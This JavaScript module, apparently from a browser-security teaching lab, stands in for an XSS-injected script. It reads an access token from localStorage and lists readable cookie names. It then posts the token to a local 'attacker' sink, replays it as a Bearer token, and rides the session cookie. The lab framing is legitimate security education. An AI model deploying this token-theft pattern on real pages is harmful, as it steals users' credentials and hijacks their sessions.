// THE ATTACKER'S SCRIPT, for the browser lab (/lab/browser). It stands for a script slipped into
// the page through an XSS hole: it runs with everything the page's own scripts have, and reports
// back what it obtained. It only ever talks to this site; the "attacker's server" is the lab's
// sink, which keeps nothing.

const json = (response) => response.json().catch(() => ({}));

async function call(path, options) {
  const response = await fetch(path, { ...options, headers: { Accept: "application/json", ...options.headers } });
  return { status: response.status, body: await json(response) };
}

export async function run() {
  const report = {};
  // 1. What JavaScript can read: localStorage, and the cookies that are not HttpOnly.
  report.token = window.localStorage.getItem("access_token");
  report.cookieNames = document.cookie
    .split(";")
    .map((pair) => pair.trim().split("=")[0])
    .filter(Boolean);
  // 2. Carry the token away, then use the copy as another machine would: with no cookie at all.
  if (report.token) {
    report.sink = await call("/lab/browser/api/sink", {
      method: "POST",
      credentials: "omit",
      headers: { "Content-Type": "application/json" },
      body: JSON.stringify({ token: report.token }),
    });
    report.elsewhere = await call("/jwt/api/me", {
      credentials: "omit",
      headers: { Authorization: `Bearer ${report.token}` },
    });
  }
  // 3. Ride the session: a same-origin request, to which the browser adds the HttpOnly cookie.
  report.ride = await call("/session/api/me", { credentials: "same-origin", headers: {} });
  return report;
}
